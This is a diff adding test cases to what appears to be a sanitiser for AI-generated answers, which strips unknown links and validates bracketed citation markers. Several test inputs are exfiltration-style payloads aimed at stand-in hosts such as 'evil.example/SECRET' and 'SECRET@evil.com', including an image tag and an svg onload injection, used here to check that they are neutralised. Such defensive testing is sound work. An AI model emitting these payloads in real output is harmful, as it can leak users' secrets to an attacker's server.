@@ -98,6 +98,10 @@ describe("an address of a model", () => {
     "htt\u200Bps://evil.example/SECRET and ht[9]tps://evil.example/SECRET",
     "    ```\n<img src=//evil.example/SECRET>\n    ```",
     "~~~\nx\n~~~\n<svg onload=x>",
+    "*@evil.com",
+    "'@127.0.0.1",
+    `[x](${known})SECRET@evil.com`,
+    `[[x](${known})](${known})SECRET19)`,
   ])("leads nowhere in what renderers show: %s [L12]", async (hostile) => {
     for (const text of [
       `Keys are rotated every 90 days [1]. See ${hostile}`,
@@ -127,6 +131,14 @@ describe("an address of a model", () => {
       expect(answer.removedAddresses).toEqual([]);
     }
   });
+});
+
+it("an address that a source has is not cut by emphasis that began before it [L12]", () => {
+  const address = "https://known.example/Key_(lock)";
+  for (const text of [`[_${address} so`, `[so _is ${address} so`, `_so [ ${address} so`, `See ${address} so`])
+    for (const { addresses } of renderAll(cleanText(text, new Set([address]))))
+      expect(addresses.filter((one) => one !== address)).toEqual([]);
+  expect(cleanText(`See ${address} so`, new Set([address]))).toBe(`See ${address} so`);
 });
 
 describe("a sentence of an answer", () => {
@@ -250,6 +262,9 @@ describe("a number in brackets", () => {
     "[9!]",
     "[{9}]",
     "[ /9/ ]",
+    // A sentence may end within.
+    "[! 9!]",
+    "[so.) 9] [. 9\n]",
   ])("is a checked citation in what renderers show, or is not there: %s [L2 L12]", async (hostile) => {
     for (const text of [
       `Keys are rotated every 90 days [1]. Whales sleep ${hostile} here`,
@@ -263,11 +278,47 @@ describe("a number in brackets", () => {
     }
   });
 
-  it.each(["[1.2.3]", "[1.5, 2.5]", "[0-9]", "[2024]", "[-9]", "[9%]", "[#9]", "[10:30]", "[9a]", "[p. 9]", "[x]"])(
-    "stays where it is a value and no marker: %s",
-    async (value) => {
-      const text = `Keys are rotated every 90 days [1]. Whales sleep ${value} here`;
-      expect((await answerOf(text)).answer.text).toBe(text);
+  it.each([
+    "[1.2.3]",
+    "[1.5, 2.5]",
+    "[0-9]",
+    "[2024]",
+    "[-9]",
+    "[9%]",
+    "[#9]",
+    "[10:30]",
+    "[9a]",
+    "[p. 9]",
+    "[x]",
+    "[3 of 5]",
+    "[1e5]",
+    "[fig. 9]",
+  ])("stays where it is a value and no marker: %s", async (value) => {
+    const text = `Keys are rotated every 90 days [1]. Whales sleep ${value} here`;
+    expect((await answerOf(text)).answer.text).toBe(text);
+  });
+
+  it.each([
+    "[src:9]",
+    "[source#9]",
+    "[source-9]",
+    "[Quelle 9]",
+    "[Fuentes 8, 9]",
+    "[来源9]",
+    "[8 und 9]",
+    "[8 y 9]",
+    "[8和9]",
+    "[8 bis 9]",
+  ])(
+    "is none behind the word for a source, or beside a joining word, in another language: %s [L2]",
+    async (hostile) => {
+      const { answer } = await answerOf(`Keys are rotated every 90 days [1]. Whales sleep ${hostile} here`);
+      expect(answer.text).toBe("Keys are rotated every 90 days [1]. Whales sleep here");
+      const own = await answerOf(`Keys are rotated every 90 days ${hostile.replaceAll(/[89]/gu, "1")}.`);
+      expect(own.answer).toMatchObject({
+        text: "Keys are rotated every 90 days [1].",
+        citations: [{ uri: "keys.md" }],
+      });
     },
   );
 
@@ -507,6 +558,13 @@ describe("words that no source has", () => {
     `So it is:\n    \`\`\`\n“${altered}” [1]`,
     `- So\n\nIt is:\n    \`\`\`\n“${altered}” [1]`,
     `|“<|\n> ”${altered}`,
+    `- “\n\n> “${altered}” [1]`,
+    `\`> “*“${altered}”*” [1]`,
+    `“> 1. 『${altered}』 " [1]`,
+    `'- - > "${altered}" ' [1]`,
+    `[9!⟧ > "${altered}" [1]`,
+    `﹝‹ 9]- - > "${altered}" [1]`,
+    `-[9!⟧ > "${altered}" [1]`,
   ])("stand between no marks beside others, nor behind a fence that is none: %s [L2]", async (text) => {
     for (const pieces of [[text], text.split("")]) {
       const { answer } = await answerOf(text, pieces);
@@ -533,6 +591,8 @@ describe("words that no source has", () => {
     "“a”X“a” [1]",
     '" X " [1]',
     'tel:5"X\n\nSo 5"X" [1]',
+    '<p>>> "X\\\n" “',
+    "… >\n> ʻʻX it is soʼʼ\n- so",
     "”X\nso it is”a [1]",
   ];
 
